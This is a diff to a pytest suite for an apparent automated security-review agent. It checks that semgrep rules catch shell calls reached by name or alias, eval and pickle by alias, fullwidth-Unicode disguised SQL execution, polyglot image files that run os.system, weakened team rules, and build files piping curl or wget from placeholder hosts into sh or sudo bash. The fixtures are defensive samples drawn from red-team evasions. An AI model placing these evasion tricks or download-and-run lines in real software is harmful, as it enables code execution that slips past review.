@@ -169,6 +169,125 @@ def test_each_planted_problem_blocks_on_its_own(vulnerable, path, line, severity
     assert ("critical", "high", "medium", "low", "info")[worst] == severity
 
 
+SEMGREP_ONLY = {"agents": {"security": {"skip": ["bandit", "secrets", "zizmor"]}}}
+SHELL_RULE = "security.semgrep.subprocess-shell-with-non-literal-command"
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        'getattr(subprocess, "call")("ping " + host, shell=True)',
+        '__import__("os").system("ping " + host)',
+        'importlib.import_module("os").popen("ping " + host)',
+        'getattr(os, "system")("ping " + host)',
+    ],
+)
+def test_a_shell_reached_by_name_is_a_shell(tmp_path, call):
+    source = f"import importlib\nimport os\nimport subprocess\n\n\ndef ping(host):\n    {call}\n"
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/net.py": source})
+    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
+    result.assert_verdict("FAIL")
+    result.assert_finding(SHELL_RULE, path="app/net.py", line=7)
+
+
+@pytest.mark.parametrize(
+    ("alias", "command", "blocks"),
+    [
+        ("os.system", '"ping " + host', True),
+        ("subprocess.Popen", '"ping " + host, shell=True', True),
+        ("os.system", '"make clean"', False),  # twin: a constant command through the alias
+        ("subprocess.Popen", "[host], shell=False", False),  # twin: no shell
+    ],
+)
+def test_a_shell_reached_through_an_alias_is_a_shell(tmp_path, alias, command, blocks):
+    source = f"import os\nimport subprocess\n\n_run = {alias}\n\n\ndef ping(host):\n    _run({command})\n"
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/net.py": source})
+    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
+    hits = [f for f in result.findings if f.rule_id == SHELL_RULE]
+    assert bool(hits) is blocks, hits
+    result.assert_verdict("FAIL" if blocks else "PASS")
+
+
+@pytest.mark.parametrize(
+    ("source", "rule", "blocks"),
+    [
+        ("import builtins\n\n\ndef f(x):\n    return builtins.eval(x)\n", "eval-or-exec", True),
+        ('import builtins\n\n\ndef f(x):\n    return getattr(builtins, "exec")(x)\n', "eval-or-exec", True),
+        ("_ev = eval\n\n\ndef f(x):\n    return _ev(x)\n", "eval-or-exec", True),
+        ('_ev = eval\n\n\ndef f(x):\n    return _ev("2")\n', "eval-or-exec", False),  # twin
+        ("import pickle\n\n_load = pickle.loads\n\n\ndef f(b):\n    return _load(b)\n", "unsafe-deserialisation", True),
+        ('import marshal\n\n\ndef f(b):\n    return getattr(marshal, "loads")(b)\n', "unsafe-deserialisation", True),
+        ("import pickle\n\n_dump = pickle.dumps\n\n\ndef f(b):\n    return _dump(b)\n", "unsafe-deserialisation", False),  # twin
+    ],
+)  # fmt: skip
+def test_code_execution_reached_by_name_or_alias(tmp_path, source, rule, blocks):
+    """Round-4 red team: builtins.eval(formula) and _load = pickle.loads PASSed."""
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/calc.py": source})
+    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
+    hits = [f for f in result.findings if f.rule_id.startswith(f"security.semgrep.{rule}")]
+    assert bool(hits) is blocks, hits
+    result.assert_verdict("FAIL" if blocks else "PASS")
+
+
+FULLWIDTH_EXECUTE = "\uff45\uff58\uff45\uff43\uff55\uff54\uff45"  # Python reads: execute
+
+
+def test_a_name_python_reads_otherwise_is_read_as_python_reads_it(tmp_path):
+    """Round-4 red team: semgrep matched the fullwidth letters, not the ``execute`` Python runs."""
+    source = f'# caf\u00e9\n\n\ndef find(conn, n):\n    return conn.{FULLWIDTH_EXECUTE}(f"SELECT {{n}}")\n'
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/db.py": source})
+    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
+    result.assert_verdict("FAIL")
+    result.assert_finding(
+        "security.semgrep.sql-built-from-formatted-string", path="app/db.py", line=5
+    )
+
+
+def test_fullwidth_letters_in_strings_and_comments_are_left_alone(tmp_path):
+    source = f'TITLE = "{FULLWIDTH_EXECUTE}"  # {FULLWIDTH_EXECUTE}\n\u00b5 = 1e-6\n'
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {"app/text.py": source})
+    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
+    result.assert_verdict("PASS")
+
+
+BUILD_RULE = "security.semgrep.build-download-piped-to-shell"
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("Makefile", "install:\n\tcurl -sSL http://get.example.invalid/setup.sh | sh\n"),
+        ("docs/Makefile", "html:\n\twget -qO- http://get.example.invalid/x | sudo bash\n"),
+        ("tox.ini", "[testenv]\ncommands_pre = sh -c 'curl -s http://x.invalid/a | bash'\n"),
+        (".pre-commit-config.yaml", "repos:\n  - repo: local\n    hooks:\n      - id: s\n"
+         "        entry: sh -c 'curl -s http://x.invalid/a | sh'\n        language: system\n"),
+    ],
+)  # fmt: skip
+def test_a_build_file_that_pipes_a_download_into_a_shell_asks_a_lead(tmp_path, path, text):
+    """Round-4 red team: make install, tox and pre-commit ran a downloaded script: PASS."""
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {path: text})
+    result = run_agents(repo.change(), [SecurityAgent], config=SEMGREP_ONLY)
+    finding = result.assert_finding(BUILD_RULE, path=path)
+    assert finding.severity == "medium" and finding.on_changed_line
+    result.assert_verdict("CONDITIONAL_PASS")
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("Makefile", "dist:\n\tcurl -sSLo dist/x.tgz http://get.example.invalid/x.tgz\n"),
+        ("tox.ini", "[testenv]\ncommands = pytest {posargs}\n"),
+        ("notes/NotAMakefile", "curl -s http://get.example.invalid/x | sh\n"),  # not a build file
+    ],
+)
+def test_ordinary_build_files_pass(tmp_path, path, text):
+    repo = make_repo(tmp_path / "r", {"README.md": "x\n"}, {path: text})
+    config = {"agents": {"security": {"skip": ["bandit", "zizmor"]}}}
+    result = run_agents(repo.change(), [SecurityAgent], config=config)
+    result.assert_verdict("PASS")
+    assert not [f for f in result.findings if f.rule_id == BUILD_RULE]
+
+
 def test_secret_values_never_appear_in_the_report(vulnerable):
     text = vulnerable.report.model_dump_json()
     assert "wJalrXUtnFEMI" not in text
@@ -239,6 +358,14 @@ PNG_ZIP_POLYGLOT = _png_zip_polyglot()
         ("fake.png", b"not a png\x00 but says so by name", True),  # the name decides nothing
         # a PNG with a zip appended: `sys.path.append("logo.png"); import payload` runs it
         ("docs/logo.png", PNG_ZIP_POLYGLOT, True),
+        # round-4 red team: a module that starts with an ASCII magic and is not UTF-8 compiles
+        (
+            "shop/notify.py",
+            b"# Sphinx inventory version 2\n# -*- coding: latin-1 -*-\n# caf\xe9\n"
+            b"import os\nos.system('ping ' + input())\n",
+            True,
+        ),
+        ("shop/logo.gif", b"GIF89a = 1  # caf\xe9\nimport os\nos.system(input())\n", True),
     ],
 )
 def test_only_inert_binary_formats_are_not_missing_evidence(leo_repo, leo_run, name, data, unread):
@@ -323,6 +450,39 @@ def test_team_rule_paths_are_read_from_the_base_commit(tmp_path):
     )
     finding = result.assert_finding("security.semgrep.no-print", path="app/x.py", line=1)
     assert finding.severity == "medium"
+
+
+TEAM_RULES = {"agents": {"security": {"rules": ["rules/team.yml"], "builtin_rules": False}}}
+NO_PRINT = (
+    "rules:\n  - id: no-print\n    languages: [python]\n    severity: WARNING\n"
+    "    message: no print in library code\n    pattern: print(...)\n"
+)
+
+
+def test_an_edit_of_the_team_rules_is_a_lead_decision(tmp_path):
+    """Round-4 red team: the edit alone PASSed, and every later change met the weakened rule."""
+    weakened = NO_PRINT.replace("pattern: print(...)", "pattern: print(..., never=1)")
+    repo = make_repo(tmp_path / "r", {"rules/team.yml": NO_PRINT}, {"rules/team.yml": weakened})
+    result = run_agents(repo.change(), [SecurityAgent], config=TEAM_RULES)
+    result.assert_verdict("ESCALATE")
+    agent = result.agent("security")
+    assert agent.details["rules_edited"] == ["rules/team.yml"]
+    assert "semgrep rule file rules/team.yml" in agent.decisions[0]
+
+
+def test_deleting_the_team_rules_is_a_lead_decision(tmp_path):
+    repo = make_repo(tmp_path / "r", {"rules/team.yml": NO_PRINT}, {"rules/team.yml": None})
+    result = run_agents(repo.change(), [SecurityAgent], config=TEAM_RULES)
+    assert result.report.verdict in ("ESCALATE", "FAIL"), result.report.reasons
+    assert "semgrep rule file rules/team.yml" in result.agent("security").decisions[0]
+
+
+def test_other_yaml_next_to_the_team_rules_is_no_decision(tmp_path):
+    base = {"rules/team.yml": NO_PRINT, "rules/other.yml": "a: 1\n"}
+    repo = make_repo(tmp_path / "r", base, {"rules/other.yml": "a: 2\n"})
+    result = run_agents(repo.change(), [SecurityAgent], config=TEAM_RULES)
+    result.assert_verdict("PASS")
+    assert result.agent("security").decisions == ()
 
 
 def test_bad_setting_stops_the_run_naming_it(clean):
